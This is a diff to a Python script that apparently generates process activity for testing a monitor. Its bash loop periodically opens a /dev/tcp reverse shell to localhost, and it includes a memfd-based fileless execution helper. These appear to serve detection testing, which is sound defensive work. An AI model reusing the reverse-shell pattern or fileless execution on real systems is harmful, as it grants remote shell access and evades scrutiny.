@@ -37,20 +37,20 @@ def memfd(source, name, seconds):
     os.execv(f'/proc/self/fd/{fd}', [name, seconds])
 
 
-def load(seconds):
-    """Shells, pipelines and files, as fast as it goes."""
+def load(port):
+    """Shells, pipelines and files, as fast as it goes, until its input ends."""
     os.chdir('/tmp')
     os.execvp('bash', ['bash', '-c', f'''
-end=$((SECONDS + {seconds})); n=0
-while [ $SECONDS -lt $end ]; do
-    n=$((n + 1)); sleep 0.01
+n=0
+until read -t 0.01 || [ $? -le 128 ]; do
+    n=$((n + 1))
     echo $n | cat | tr 0-9 a-j >/dev/null
     (exec 3</dev/null; /bin/true; /bin/echo $n; sh -c 'exit 3') >/dev/null
-    if [ $((n % 20)) = 0 ]; then
-        bash -c 'exec 5<>/dev/tcp/127.0.0.1/{sys.argv[3]}; bash <&5 >&5 2>&5'
+    if [ $((n % 20)) = 1 ]; then
+        bash -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; bash <&5 >&5 2>&5'
     fi
 done'''])
 
 
 if __name__ == '__main__':
-    globals()[sys.argv[1]](*sys.argv[2:3 if sys.argv[1] == 'load' else None])
+    globals()[sys.argv[1]](*sys.argv[2:])
